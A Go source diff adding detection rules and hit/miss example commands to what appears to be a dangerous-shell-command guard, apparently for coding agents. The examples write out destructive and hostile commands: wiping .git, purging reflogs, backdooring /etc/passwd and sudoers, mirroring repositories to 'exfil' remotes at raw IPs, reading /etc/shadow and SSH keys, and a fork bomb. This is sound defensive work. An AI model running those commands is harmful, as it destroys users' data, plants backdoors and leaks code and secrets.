@@ -95,6 +95,17 @@ var builtinRules = [...]rule{
 	{p: Pattern{Name: "partition_table_write", Level: High, Description: "Rewrites or deletes a disk's partition table (sgdisk --zap-all/--delete/--new, parted mklabel/mkpart/rm, sfdisk --delete or a new layout): the partitions and the data on them are lost.", Match: &Spec{Programs: []string{"sgdisk", "parted"}, Operand: "/dev/.*|\\$.*", Args: "(.* )?(-Z|-z|-o|-d|-n|-l|-G|--zap-all|--zap|--clear|--delete|--new|--load-backup|mklabel|mktable|mkpart|rm|resizepart)( .*)?"}}, m: matcher{operand: &lazyRE{expr: "/dev/.*|\\$.*", anchored: true}, args: &lazyRE{expr: "(.* )?(-Z|-z|-o|-d|-n|-l|-G|--zap-all|--zap|--clear|--delete|--new|--load-backup|mklabel|mktable|mkpart|rm|resizepart)( .*)?", anchored: true}}},
 	{p: Pattern{Name: "sfdisk_delete", Level: High, Description: "sfdisk --delete or --wipe removes partitions or signatures from a disk: the data on them is lost.", Match: &Spec{Programs: []string{"sfdisk"}, FlagsAny: []string{"--delete", "--wipe", "--wipe-partitions"}}}, m: matcher{}},
 	{p: Pattern{Name: "partition_editor", Level: Medium, Description: "Opens a partition editor on a disk (fdisk, gdisk, cfdisk, parted): one wrong key rewrites the partition table.", Match: &Spec{Programs: []string{"fdisk", "gdisk", "cfdisk", "parted", "sfdisk"}, FlagsNone: []string{"-l", "--list", "-d", "--dump", "-J", "--json", "-s", "--show-size", "-V", "--verify", "-h", "--help"}, Operand: "/dev/.*|\\$.*"}}, m: matcher{operand: &lazyRE{expr: "/dev/.*|\\$.*", anchored: true}}},
+	{p: Pattern{Name: "git_dir_delete", Level: Critical, Description: "Deletes a repository's .git directory (or its objects or refs): every commit, branch, tag and stash that was not pushed is gone for good.", Match: &Spec{Programs: []string{"rm", "find"}, Any: []Spec{{Programs: []string{"rm"}, FlagsAny: []string{"-r"}, Operand: "(.*/)?\\.git/?|(.*/)?\\.git/(objects|refs|logs|packed-refs|HEAD)(/.*)?|\\$\\(git rev-parse --(git-dir|absolute-git-dir|git-common-dir)\\)|`git rev-parse --(git-dir|absolute-git-dir|git-common-dir)`"}, {Programs: []string{"find"}, FlagsAny: []string{"-delete", "-exec=rm", "-execdir=rm"}, Check: "find_selects_git"}}}}, m: matcher{more: &matcherMore{any: []matcher{{operand: &lazyRE{expr: "(.*/)?\\.git/?|(.*/)?\\.git/(objects|refs|logs|packed-refs|HEAD)(/.*)?|\\$\\(git rev-parse --(git-dir|absolute-git-dir|git-common-dir)\\)|`git rev-parse --(git-dir|absolute-git-dir|git-common-dir)`", anchored: true}}, {}}}}},
+	{p: Pattern{Name: "git_history_purge", Level: Critical, Description: "Expires the reflog and prunes unreachable objects now, on the same line (git reflog expire --expire=now + git gc --prune=now, git -c gc.reflogExpire=now gc --prune=now): every commit no branch holds — reset, rebased or deleted work — is destroyed for good.", Match: &Spec{Programs: []string{"git"}, Subcommands: []string{"gc", "prune"}, Check: "reflog_purge"}}, m: matcher{}},
+	{p: Pattern{Name: "git_reflog_expire_now", Level: Medium, Description: "git reflog expire --expire=now drops the reflog, the record that lets reset, rebased or deleted commits be found again; the next gc may delete them.", Match: &Spec{Programs: []string{"git"}, Subcommands: []string{"reflog expire"}, Any: []Spec{{Values: []FlagValue{{Flag: "--expire", Value: "(?i)(now|all|@?0|[0-9]+[. ]?(seconds?|minutes?)([. ]ago)?)"}}}, {Values: []FlagValue{{Flag: "--expire-unreachable", Value: "(?i)(now|all|@?0|[0-9]+[. ]?(seconds?|minutes?)([. ]ago)?)"}}}}}}, m: matcher{more: &matcherMore{any: []matcher{{more: &matcherMore{values: []*lazyRE{&lazyRE{expr: "(?i)(now|all|@?0|[0-9]+[. ]?(seconds?|minutes?)([. ]ago)?)", anchored: true}}}}, {more: &matcherMore{values: []*lazyRE{&lazyRE{expr: "(?i)(now|all|@?0|[0-9]+[. ]?(seconds?|minutes?)([. ]ago)?)", anchored: true}}}}}}}},
+	{p: Pattern{Name: "git_prune_now", Level: Medium, Description: "Deletes every unreachable object now (git gc --prune=now, git prune): commits no branch or reflog entry holds, such as dropped stashes, are gone for good.", Match: &Spec{Programs: []string{"git"}, Any: []Spec{{Subcommands: []string{"gc"}, Values: []FlagValue{{Flag: "--prune", Value: "(?i)(now|all|@?0|[0-9]+[. ]?(seconds?|minutes?)([. ]ago)?)"}}}, {Subcommands: []string{"prune"}}}}}, m: matcher{more: &matcherMore{any: []matcher{{more: &matcherMore{values: []*lazyRE{&lazyRE{expr: "(?i)(now|all|@?0|[0-9]+[. ]?(seconds?|minutes?)([. ]ago)?)", anchored: true}}}}, {}}}}},
+	{p: Pattern{Name: "git_filter_repo_force", Level: Critical, Description: "git filter-repo --force rewrites every commit of the repository in place, skipping its fresh-clone safety check, then expires the reflog and prunes: the old history and any unpushed work are gone for good.", Match: &Spec{Programs: []string{"git"}, Subcommands: []string{"filter-repo"}, FlagsAny: []string{"-f"}}}, m: matcher{}},
+	{p: Pattern{Name: "git_history_rewrite", Level: High, Description: "Rewrites a repository's history (git filter-branch, git filter-repo, BFG Repo-Cleaner): every commit gets a new identity, and once pushed the old history is gone from the remote too.", Match: &Spec{Programs: []string{"git", "bfg", "java"}, Any: []Spec{{Programs: []string{"git"}, Subcommands: []string{"filter-branch", "filter-repo"}}, {Programs: []string{"bfg"}, FlagsAny: []string{"--delete-files", "-D", "--delete-folders", "--replace-text", "-rt", "--strip-blobs-bigger-than", "-b", "--strip-biggest-blobs", "-B", "--strip-blobs-with-ids", "-bi", "--convert-to-git-lfs", "--massive-non-file-objects-sized-up-to"}}, {Programs: []string{"java"}, FlagsAll: []string{"-jar"}, Operand: "(.*/)?bfg[^/]*\\.jar"}}}}, m: matcher{more: &matcherMore{any: []matcher{{}, {}, {operand: &lazyRE{expr: "(.*/)?bfg[^/]*\\.jar", anchored: true}}}}}},
+	{p: Pattern{Name: "git_update_ref_delete", Level: High, Description: "git update-ref -d deletes a branch, tag or other ref with its reflog, without the checks of git branch -d: commits only it held are lost.", Match: &Spec{Programs: []string{"git"}, Subcommands: []string{"update-ref"}, Any: []Spec{{FlagsAny: []string{"-d"}}, {FlagsAny: []string{"--stdin"}, Stdin: "(?is)(.*\\n)?\\s*delete\\s.*"}}}}, m: matcher{more: &matcherMore{any: []matcher{{}, {stdin: &lazyRE{expr: "(?is)(.*\\n)?\\s*delete\\s.*", anchored: true}}}}}},
+	{p: Pattern{Name: "git_rm_everything", Level: High, Description: "git rm -r . removes every tracked file from the index and the working tree (with -f uncommitted changes too); committed with it, the project is gone from the branch.", Match: &Spec{Programs: []string{"git"}, Subcommands: []string{"rm"}, FlagsAny: []string{"-r"}, FlagsNone: []string{"--cached"}, Operand: "\\.|\\*|:/|\\./\\*|:\\(top\\)|:/\\*"}}, m: matcher{operand: &lazyRE{expr: "\\.|\\*|:/|\\./\\*|:\\(top\\)|:/\\*", anchored: true}}},
+	{p: Pattern{Name: "git_branch_delete_many", Level: High, Description: "Force-deletes many branches at once (git branch -D with several names, a computed list, or xargs): commits only they held are no longer reachable, and the next gc may delete them.", Match: &Spec{Programs: []string{"git"}, Subcommands: []string{"branch"}, FlagsAny: []string{"-D"}, Any: []Spec{{MinOperands: 3}, {Wrappers: []string{"xargs"}}, {Operand: "\\$.*|`.*"}}}}, m: matcher{more: &matcherMore{any: []matcher{{}, {}, {operand: &lazyRE{expr: "\\$.*|`.*", anchored: true}}}}}},
+	{p: Pattern{Name: "git_tag_delete_many", Level: Medium, Description: "Deletes many tags at once (git tag -d with several names, a computed list, or xargs); pushed with --delete or :refs/tags, they are gone from the remote too.", Match: &Spec{Programs: []string{"git"}, Subcommands: []string{"tag"}, FlagsAny: []string{"-d"}, Any: []Spec{{MinOperands: 3}, {Wrappers: []string{"xargs"}}, {Operand: "\\$.*|`.*"}}}}, m: matcher{more: &matcherMore{any: []matcher{{}, {}, {operand: &lazyRE{expr: "\\$.*|`.*", anchored: true}}}}}},
+	{p: Pattern{Name: "git_replace_object", Level: Medium, Description: "git replace grafts or substitutes objects: history is shown and rewritten (filter-repo, filter-branch make it permanent) as if commits had other parents or contents.", Match: &Spec{Programs: []string{"git"}, Subcommands: []string{"replace"}, FlagsNone: []string{"-l", "--list", "-d"}, Any: []Spec{{FlagsAny: []string{"--graft", "--edit", "--convert-graft-file", "-f"}}, {MinOperands: 2}}}}, m: matcher{more: &matcherMore{any: []matcher{{}, {}}}}},
 	{p: Pattern{Name: "write_auth_file", Level: High, Description: "Overwrites or appends to a file that controls who can log in or become root (/etc/passwd, /etc/shadow, /etc/sudoers).", Match: &Spec{Redirect: "/etc/(passwd|shadow|group|gshadow|sudoers)|/etc/sudoers\\.d/.*|(~|\\$HOME|/root|/home/[^/]+)/\\.ssh/authorized_keys"}}, m: matcher{redirect: &lazyRE{expr: "/etc/(passwd|shadow|group|gshadow|sudoers)|/etc/sudoers\\.d/.*|(~|\\$HOME|/root|/home/[^/]+)/\\.ssh/authorized_keys", anchored: true}}},
 	{p: Pattern{Name: "tee_auth_file", Level: High, Description: "Writes a file that controls who can log in or become root (/etc/passwd, /etc/shadow, /etc/sudoers, authorized_keys).", Match: &Spec{Programs: []string{"tee"}, Operand: "/etc/(passwd|shadow|group|gshadow|sudoers)|/etc/sudoers\\.d/.*|(~|\\$HOME|/root|/home/[^/]+)/\\.ssh/authorized_keys"}}, m: matcher{operand: &lazyRE{expr: "/etc/(passwd|shadow|group|gshadow|sudoers)|/etc/sudoers\\.d/.*|(~|\\$HOME|/root|/home/[^/]+)/\\.ssh/authorized_keys", anchored: true}}},
 	{p: Pattern{Name: "copy_over_auth_file", Level: High, Description: "Replaces a file that controls who can log in or become root (/etc/passwd, /etc/shadow, /etc/sudoers, authorized_keys).", Match: &Spec{Programs: []string{"cp", "mv", "install", "ln"}, LastOperand: "/etc/(passwd|shadow|group|gshadow|sudoers)|/etc/sudoers\\.d/.*|(~|\\$HOME|/root|/home/[^/]+)/\\.ssh/authorized_keys"}}, m: matcher{last: &lazyRE{expr: "/etc/(passwd|shadow|group|gshadow|sudoers)|/etc/sudoers\\.d/.*|(~|\\$HOME|/root|/home/[^/]+)/\\.ssh/authorized_keys", anchored: true}}},
@@ -304,61 +315,83 @@ func builtinExamples(i int) (hit, miss []string) {
 	case 88:
 		return []string{"fdisk /dev/sda", "sudo gdisk /dev/nvme0n1", "cfdisk /dev/sdb"}, []string{"fdisk -l", "fdisk -l /dev/sda", "sfdisk --dump /dev/sda", "sfdisk --no-act /dev/sdb < layout.sfdisk"}
 	case 89:
-		return []string{"echo 'root::0:0::/root:/bin/sh' >> /etc/passwd", "cat key.pub >> ~/.ssh/authorized_keys", "echo \"me ALL=(ALL) NOPASSWD:ALL\" > /etc/sudoers.d/me"}, []string{"cat /etc/passwd > passwd.bak", "cat ~/.ssh/authorized_keys"}
+		return []string{"rm -rf .git", "rm -rf .git/", "rm -rf ./.git && git init", "sudo rm -rf ~/src/app/.git", "rm -rf .git/objects", "rm -fr \"$(git rev-parse --git-dir)\"", "rm -rf ../billing/.git", "cd /srv/app && rm -rf .git", "sudo rm -r -f /home/dev/work/api/.git", "rm -rf .git/refs .git/packed-refs", "rm -r --force .git", "find . -name .git -type d -exec rm -rf {} +", "find ~/src -name .git -prune -exec rm -rf {} \\;", "npx rimraf .git", "rm -rf `git rev-parse --git-dir`"}, []string{"rm -rf .github/workflows/old.yml", "rm -f .git/index.lock", "rm -rf .git/hooks/pre-commit.sample", "rm -rf .gitignore", "ls -la .git", "git init", "find . -name .git -type d", "rm -rf node_modules/.cache", "echo rm -rf .git", "find . ! -name .gitignore ! -path .git -exec rm -rf {} \\;"}
 	case 90:
-		return []string{"echo x | sudo tee -a /etc/sudoers", "cat id.pub | tee -a ~/.ssh/authorized_keys"}, []string{"echo x | tee /tmp/sudoers.test", "sudo tee /etc/motd < motd"}
+		return []string{"git reflog expire --expire=now --all && git gc --prune=now --aggressive", "git reflog expire --expire-unreachable=now --all; git gc --prune=now", "git -c gc.reflogExpire=now -c gc.reflogExpireUnreachable=now gc --prune=now", "git reflog expire --expire=all --all && git gc --aggressive --prune=all", "git reset --hard HEAD~20 && git reflog expire --expire=now --all && git gc --prune=now", "git reflog expire --expire=now --all && git prune", "git reflog expire --all --expire=now; git prune --expire=now"}, []string{"git gc", "git gc --prune=now", "git reflog expire --expire=now --all", "git reflog expire --expire=90.days.ago --all && git gc --prune=now", "git reflog expire --expire=now --all && git gc", "git reflog expire -n --expire=now --all && git gc --prune=now", "git prune -n", "git gc --auto"}
 	case 91:
-		return []string{"cp /tmp/passwd /etc/passwd", "sudo install -m 440 me /etc/sudoers.d/me", "ln -sf /tmp/keys ~/.ssh/authorized_keys"}, []string{"cp /etc/passwd /tmp/passwd", "cp id.pub ~/.ssh/id.pub"}
+		return []string{"git reflog expire --expire=now --all", "git reflog expire --expire-unreachable=now --all", "git reflog expire --expire=all refs/heads/main"}, []string{"git reflog", "git reflog expire --expire=90.days.ago --all", "git reflog expire -n --expire=now --all", "git reflog show main"}
 	case 92:
-		return []string{"gh repo delete acme/api --yes", "gh repo delete --yes", "gh repo delete acme/infra --confirm", "GH_TOKEN=$TOKEN gh repo delete acme/legacy --yes", "glab repo delete acme/platform -y", "glab repo delete group/sub/project --yes", "hub delete -y sinatra/recipes", "tea repos delete --owner acme --name old --force", "tea repo rm --name old", "gt repo delete alice/old-project --yes", "fj repo delete alice/old", "az repos delete --id 3c7e1a2b --yes", "gh repo list acme --json name -q '.[].name' | xargs -I{} gh repo delete acme/{} --yes", "env GH_HOST=github.example.com gh repo delete team/app --yes"}, []string{"gh repo view acme/api", "gh repo create acme/new --private", "gh repo delete --help", "glab repo view acme/platform", "tea repos ls", "gh repo clone acme/api", "gh repo list acme", "az repos list", "echo gh repo delete acme/api --yes", "git commit -m \"docs: never run gh repo delete\""}
+		return []string{"git gc --prune=now", "git gc --aggressive --prune=all", "git prune --expire=now", "git prune -v --expire=now", "git prune"}, []string{"git gc", "git gc --auto", "git gc --prune=2.weeks.ago", "git prune --dry-run", "git prune -n", "git remote prune origin", "git worktree prune"}
 	case 93:
-		return []string{"gh api -X DELETE repos/acme/website", "gh api -XDELETE /repos/acme/api", "gh api repos/acme/api -X DELETE", "gh api --method DELETE repos/acme/api", "gh api --method=DELETE /repos/acme/api/", "glab api -X DELETE projects/123", "glab api --method DELETE projects/acme%2Fapi", "curl -X DELETE -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/repos/acme/api", "curl -s --request DELETE --header \"PRIVATE-TOKEN: $GL_TOKEN\" \"https://gitlab.example.com/api/v4/projects/42\"", "curl -u admin:pw -X DELETE \"https://git.example.com/api/v1/repos/org/app\""}, []string{"gh api repos/acme/api", "gh api -X GET repos/acme/api/branches", "gh api -X DELETE repos/acme/api/releases/123", "glab api projects/123", "curl https://api.github.com/repos/acme/api", "curl -X DELETE https://api.github.com/repos/acme/api/issues/comments/1"}
+		return []string{"git filter-repo --force --path secrets/ --invert-paths", "git filter-repo --invert-paths --path-glob '*.env' --force", "git filter-repo --strip-blobs-bigger-than 10M --force", "git replace --graft HEAD~1 && git filter-repo --force", "git-filter-repo -f --replace-text expressions.txt"}, []string{"git filter-repo --analyze", "git filter-repo --help", "git filter-repo --dry-run --force --path x", "git filter-repo --path src/"}
 	case 94:
-		return []string{"gh api --method DELETE /repos/acme/api/git/refs/heads/main", "gh api -X DELETE repos/acme/api/git/refs/heads/release-2024", "gh api --method DELETE repos/acme/web/git/refs/tags/v1.0.0", "gh api repos/acme/api/branches/main/protection -X DELETE", "gh api -X DELETE repos/acme/api/rulesets/42", "glab api -X DELETE projects/123/repository/branches/main", "glab api --method DELETE projects/123/protected_branches/main", "curl -X DELETE -H \"Authorization: token $GITHUB_TOKEN\" https://api.github.com/repos/acme/api/git/refs/heads/old", "curl -X DELETE https://api.github.com/repos/acme/api/branches/main/protection"}, []string{"gh api repos/acme/api/git/refs/heads/main", "gh api --method GET repos/acme/api/git/refs/heads/main", "gh api repos/acme/api/branches/main/protection", "glab api projects/123/repository/branches", "gh api -X POST repos/acme/api/git/refs -f ref=refs/heads/x -f sha=abc"}
+		return []string{"git filter-branch --force --index-filter 'git rm -r --cached --ignore-unmatch .' --prune-empty -- --all", "git filter-branch --tree-filter 'rm -rf src' HEAD", "git filter-branch --msg-filter 'sed s/secret//' -- --all", "env FILTER_BRANCH_SQUELCH_WARNING=1 git filter-branch -f --subdirectory-filter lib -- --all", "git filter-repo --replace-text expressions.txt", "bfg --delete-files '*.pem' --no-blob-protection", "bfg --replace-text passwords.txt my-repo.git", "bfg -b 50M repo.git", "java -jar bfg-1.14.0.jar --strip-blobs-bigger-than 100M my-repo.git", "java -jar ~/bin/bfg.jar -D id_rsa"}, []string{"git filter-repo --analyze", "git filter-branch --help", "git log --all", "java -jar app.jar", "bfg --version"}
 	case 95:
-		return []string{"gh api -X DELETE repos/acme/api/releases/12345678", "gh api --method=DELETE repos/acme/site/releases/98765432", "gh api -X DELETE repos/acme/api/hooks/1", "glab api -X DELETE projects/1/variables/TOKEN"}, []string{"gh api repos/acme/api/releases", "gh api -X POST repos/acme/api/dispatches -f event_type=deploy", "glab api projects/1/variables"}
+		return []string{"git update-ref -d refs/heads/main", "git update-ref -d HEAD", "git for-each-ref --format='%(refname)' refs/tags | xargs -n1 git update-ref -d", "git update-ref --stdin <<< 'delete refs/heads/main' ", "printf 'delete refs/heads/old\\n' | git update-ref --stdin"}, []string{"git update-ref refs/heads/backup HEAD", "git update-ref refs/heads/main origin/main", "git update-ref --stdin <<< 'create refs/heads/x HEAD' ", "git show-ref"}
 	case 96:
-		return []string{"gh release delete v2.0.0 --yes --cleanup-tag", "gh release delete v3.1.0 -y", "glab release delete v1.0.0 --with-tag --yes", "tea releases delete v1.2.0 --confirm", "gh release list --json tagName -q '.[].tagName' | xargs -n1 gh release delete -y"}, []string{"gh release list --limit 5", "gh release view v1.4.2", "gh release create v1.4.2 --generate-notes dist/*", "glab release list", "tea releases ls"}
+		return []string{"git rm -r -f .", "git rm -rf . && git commit -m 'clean' ", "git rm -rq .", "git rm -r -- .", "git rm -r :/", "git rm -rf '*' ", "git -C ../api rm -rf ."}, []string{"git rm --cached .env", "git rm src/old.go", "git rm -r --cached node_modules", "git rm -r --cached .", "git rm -r -n .", "git rm -r docs/old"}
 	case 97:
-		return []string{"gh release list --json tagName -q '.[].tagName' | xargs -n1 gh release delete -y", "gh release delete $(gh release list --json tagName -q \".[].tagName\") -y"}, []string{"gh release delete v3.1.0 -y", "gh release list | head"}
+		return []string{"git branch -D $(git branch --format='%(refname:short)' | grep -v main)", "git branch -D feature/a feature/b feature/c experiment/x", "git branch | grep -v '^\\*' | xargs git branch -D", "git for-each-ref --format '%(refname:short)' refs/heads | xargs -n 1 git branch -D"}, []string{"git branch -D feature", "git branch -d feature/a feature/b feature/c", "git branch --merged | xargs git branch -d", "git branch -a"}
 	case 98:
-		return []string{"gh repo edit acme/api --visibility public --accept-visibility-change-consequences", "gh repo edit --visibility=public", "gh api -X PATCH repos/acme/api -f visibility=public", "gh api --method PATCH repos/acme/api -F private=false", "gh api -X PATCH repos/acme/api --raw-field visibility=public"}, []string{"gh repo edit --visibility private", "gh repo edit --description \"Billing service\"", "gh repo view acme/api --json visibility", "gh api -X PATCH repos/acme/api -f description=x"}
+		return []string{"git tag -l | xargs git tag -d", "git tag -d $(git tag -l)", "git tag -d v1.0 v1.1 v1.2 v1.3"}, []string{"git tag -d v1.0.0-rc1", "git tag -l", "git tag -a v2.0.0 -m 'release 2.0.0' "}
 	case 99:
-		return []string{"gh secret delete AWS_SECRET_ACCESS_KEY", "gh secret remove NPM_TOKEN -R acme/api", "gh variable delete DEPLOY_ENV", "gh repo deploy-key delete 12345", "gh ssh-key delete 987 --yes", "gh gist delete 0123abcd", "glab variable delete TOKEN"}, []string{"gh secret list", "gh secret set API_KEY < api_key.txt", "gh variable list", "gh ssh-key list", "glab variable list"}
+		return []string{"git replace --graft HEAD~1", "git replace --edit HEAD", "git replace 1a2b3c 4d5e6f", "git replace --convert-graft-file"}, []string{"git replace -l", "git replace --list", "git replace", "git replace -d 1a2b3c"}
 	case 100:
-		return []string{"gh repo archive acme/old-api --yes", "gh repo archive -y"}, []string{"gh repo unarchive acme/old-api --yes", "gh repo view acme/old-api"}
+		return []string{"echo 'root::0:0::/root:/bin/sh' >> /etc/passwd", "cat key.pub >> ~/.ssh/authorized_keys", "echo \"me ALL=(ALL) NOPASSWD:ALL\" > /etc/sudoers.d/me"}, []string{"cat /etc/passwd > passwd.bak", "cat ~/.ssh/authorized_keys"}
 	case 101:
-		return []string{"git push --force origin main", "git push -f origin HEAD:master", "git push origin +main", "git push origin main -f", "git push origin HEAD:refs/heads/main --force", "git push --force upstream master", "git push origin +HEAD:trunk", "sudo -u git git push --force origin develop", "git -C ~/src/billing push --force origin main", "git push --force-with-lease origin main", "git push --force-with-lease=main origin main", "git push -f origin new:main", "git push origin main --force --no-verify", "git push --force-if-includes --force-with-lease origin master", "git-push -f origin main"}, []string{"git push origin main", "git push -f origin feature/login", "git push -f origin main:feature", "git push --dry-run --force origin main", "git push origin +feature", "echo git push -f origin main", "git push --force origin maintenance", "git push -n -f origin main", "git push -u origin main"}
+		return []string{"echo x | sudo tee -a /etc/sudoers", "cat id.pub | tee -a ~/.ssh/authorized_keys"}, []string{"echo x | tee /tmp/sudoers.test", "sudo tee /etc/motd < motd"}
 	case 102:
-		return []string{"git push origin --delete main", "git push -d origin master", "git push origin :main", "git push origin :refs/heads/trunk", "git push --delete upstream develop"}, []string{"git push origin --delete feature/old", "git push origin :feature", "git push origin main", "git push -n --delete origin main"}
+		return []string{"cp /tmp/passwd /etc/passwd", "sudo install -m 440 me /etc/sudoers.d/me", "ln -sf /tmp/keys ~/.ssh/authorized_keys"}, []string{"cp /etc/passwd /tmp/passwd", "cp id.pub ~/.ssh/id.pub"}
 	case 103:
-		return []string{"git push origin :release/2024", "git push origin --delete release/1.x hotfix/2.3", "git push -d origin production", "git push origin --delete $(git branch -r | grep -v main | sed 's/origin\\\\///')", "git branch -r --merged | sed 's/origin\\///' | xargs git push origin --delete", "git push origin :refs/heads/stable"}, []string{"git push origin --delete feature/old-experiment", "git push -d origin v1.2.3", "git push origin release/2024", "git push -n origin --delete release/1.x"}
+		return []string{"gh repo delete acme/api --yes", "gh repo delete --yes", "gh repo delete acme/infra --confirm", "GH_TOKEN=$TOKEN gh repo delete acme/legacy --yes", "glab repo delete acme/platform -y", "glab repo delete group/sub/project --yes", "hub delete -y sinatra/recipes", "tea repos delete --owner acme --name old --force", "tea repo rm --name old", "gt repo delete alice/old-project --yes", "fj repo delete alice/old", "az repos delete --id 3c7e1a2b --yes", "gh repo list acme --json name -q '.[].name' | xargs -I{} gh repo delete acme/{} --yes", "env GH_HOST=github.example.com gh repo delete team/app --yes"}, []string{"gh repo view acme/api", "gh repo create acme/new --private", "gh repo delete --help", "glab repo view acme/platform", "tea repos ls", "gh repo clone acme/api", "gh repo list acme", "az repos list", "echo gh repo delete acme/api --yes", "git commit -m \"docs: never run gh repo delete\""}
 	case 104:
-		return []string{"git push --all --force origin", "git push -f --all", "git push --branches --force-with-lease origin", "git push origin '+refs/heads/*:refs/heads/*' "}, []string{"git push --all origin", "git push --tags --force", "git push -f origin feature", "git push origin refs/heads/*:refs/heads/*"}
+		return []string{"gh api -X DELETE repos/acme/website", "gh api -XDELETE /repos/acme/api", "gh api repos/acme/api -X DELETE", "gh api --method DELETE repos/acme/api", "gh api --method=DELETE /repos/acme/api/", "glab api -X DELETE projects/123", "glab api --method DELETE projects/acme%2Fapi", "curl -X DELETE -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/repos/acme/api", "curl -s --request DELETE --header \"PRIVATE-TOKEN: $GL_TOKEN\" \"https://gitlab.example.com/api/v4/projects/42\"", "curl -u admin:pw -X DELETE \"https://git.example.com/api/v1/repos/org/app\""}, []string{"gh api repos/acme/api", "gh api -X GET repos/acme/api/branches", "gh api -X DELETE repos/acme/api/releases/123", "glab api projects/123", "curl https://api.github.com/repos/acme/api", "curl -X DELETE https://api.github.com/repos/acme/api/issues/comments/1"}
 	case 105:
-		return []string{"git push -f", "git push --force", "git push --force origin", "git push -f origin HEAD", "git push origin +HEAD", "git push -f origin \"$(git branch --show-current)\"", "git push -f origin $BRANCH", "git reset --hard $(git rev-list --max-parents=0 HEAD) && git push -f"}, []string{"git push", "git push origin HEAD", "git push -f origin feature/x", "git push -f origin main", "git push -n -f", "git push --all --force origin", "git push --force-with-lease", "git push --force-with-lease origin HEAD", "git push -f --force-with-lease"}
+		return []string{"gh api --method DELETE /repos/acme/api/git/refs/heads/main", "gh api -X DELETE repos/acme/api/git/refs/heads/release-2024", "gh api --method DELETE repos/acme/web/git/refs/tags/v1.0.0", "gh api repos/acme/api/branches/main/protection -X DELETE", "gh api -X DELETE repos/acme/api/rulesets/42", "glab api -X DELETE projects/123/repository/branches/main", "glab api --method DELETE projects/123/protected_branches/main", "curl -X DELETE -H \"Authorization: token $GITHUB_TOKEN\" https://api.github.com/repos/acme/api/git/refs/heads/old", "curl -X DELETE https://api.github.com/repos/acme/api/branches/main/protection"}, []string{"gh api repos/acme/api/git/refs/heads/main", "gh api --method GET repos/acme/api/git/refs/heads/main", "gh api repos/acme/api/branches/main/protection", "glab api projects/123/repository/branches", "gh api -X POST repos/acme/api/git/refs -f ref=refs/heads/x -f sha=abc"}
 	case 106:
-		return []string{"git push --prune origin", "git push --prune origin 'refs/heads/*:refs/heads/*' ", "git push --all --prune origin"}, []string{"git push origin main", "git fetch --prune", "git remote prune origin", "git push --prune --dry-run origin"}
+		return []string{"gh api -X DELETE repos/acme/api/releases/12345678", "gh api --method=DELETE repos/acme/site/releases/98765432", "gh api -X DELETE repos/acme/api/hooks/1", "glab api -X DELETE projects/1/variables/TOKEN"}, []string{"gh api repos/acme/api/releases", "gh api -X POST repos/acme/api/dispatches -f event_type=deploy", "glab api projects/1/variables"}
 	case 107:
-		return []string{"git remote add backup https://git.example-paste.net/x/y.git && git push backup --all", "git remote set-url origin https://203.0.113.44/r.git && git push --mirror", "git remote add exfil git@203.0.113.9:loot/repo.git; git push exfil --mirror", "git push --mirror https://203.0.113.44/mirror.git", "git push --all git@git.example.org:backup/app.git", "git push https://oauth2:glpat-Zx8Pq2Lm9Rt4Vw6Yb1Nc@gitlab.example.com/acme/api.git --all", "git remote add -t main m https://code.example.io/u/x.git && git push m --tags"}, []string{"git remote add origin git@github.com:acme/new-service.git && git push -u origin main", "git push --all origin", "git push --tags", "git remote add upstream https://github.com/golang/go.git", "git push https://github.com/acme/api.git main", "git remote add backup https://x.example/y.git && git push origin --all"}
+		return []string{"gh release delete v2.0.0 --yes --cleanup-tag", "gh release delete v3.1.0 -y", "glab release delete v1.0.0 --with-tag --yes", "tea releases delete v1.2.0 --confirm", "gh release list --json tagName -q '.[].tagName' | xargs -n1 gh release delete -y"}, []string{"gh release list --limit 5", "gh release view v1.4.2", "gh release create v1.4.2 --generate-notes dist/*", "glab release list", "tea releases ls"}
 	case 108:
-		return []string{"git push https://oauth2:glpat-Zx8Pq2Lm9Rt4Vw6Yb1Nc@gitlab.example.com/acme/api.git main", "git clone https://x-access-token:ghs_abc123@github.com/acme/api.git", "git remote add origin https://alice:s3cret@git.example.com/app.git", "git remote set-url origin https://ghp_AbCdEf123456@github.com/acme/api.git"}, []string{"git clone https://github.com/acme/api.git", "git remote add origin git@github.com:acme/api.git", "git push origin main", "git clone ssh://git@git.example.com/app.git"}
+		return []string{"gh release list --json tagName -q '.[].tagName' | xargs -n1 gh release delete -y", "gh release delete $(gh release list --json tagName -q \".[].tagName\") -y"}, []string{"gh release delete v3.1.0 -y", "gh release list | head"}
 	case 109:
-		return []string{"cat /etc/shadow", "cat ~/.ssh/id_rsa", "cat < ~/.ssh/id_rsa", "cat</etc/shadow", "cat 0< \"$HOME/.ssh/id_ed25519\"", "echo < /etc/shadow", "< /etc/shadow grep root", "{ cat; } < /etc/gshadow", "base64 ~/.aws/credentials"}, []string{"cat < ~/notes.txt", "cat <<< /etc/shadow", "cat <<'EOF' > /tmp/x\n/etc/shadow\nEOF", "echo /etc/shadow", "grep root < /etc/passwd", "ls -l /etc/shadow", "cat /etc/passwd", "ssh-keygen -y -f key > key.pub"}
+		return []string{"gh repo edit acme/api --visibility public --accept-visibility-change-consequences", "gh repo edit --visibility=public", "gh api -X PATCH repos/acme/api -f visibility=public", "gh api --method PATCH repos/acme/api -F private=false", "gh api -X PATCH repos/acme/api --raw-field visibility=public"}, []string{"gh repo edit --visibility private", "gh repo edit --description \"Billing service\"", "gh repo view acme/api --json visibility", "gh api -X PATCH repos/acme/api -f description=x"}
 	case 110:
-		return []string{":(){ :|:& };:", ":(){:|:&};:", "bomb() { bomb | bomb & }; bomb"}, []string{"f() { echo hi; }; f", "git commit -m 'fix: avoid :(){ :|:& };:' ", "f() { f; }"}
+		return []string{"gh secret delete AWS_SECRET_ACCESS_KEY", "gh secret remove NPM_TOKEN -R acme/api", "gh variable delete DEPLOY_ENV", "gh repo deploy-key delete 12345", "gh ssh-key delete 987 --yes", "gh gist delete 0123abcd", "glab variable delete TOKEN"}, []string{"gh secret list", "gh secret set API_KEY < api_key.txt", "gh variable list", "gh ssh-key list", "glab variable list"}
 	case 111:
-		return []string{"kill -9 -1", "kill -KILL -1", "sudo kill -TERM -1"}, []string{"kill -9 1234", "kill -l", "kill -1 1234"}
+		return []string{"gh repo archive acme/old-api --yes", "gh repo archive -y"}, []string{"gh repo unarchive acme/old-api --yes", "gh repo view acme/old-api"}
 	case 112:
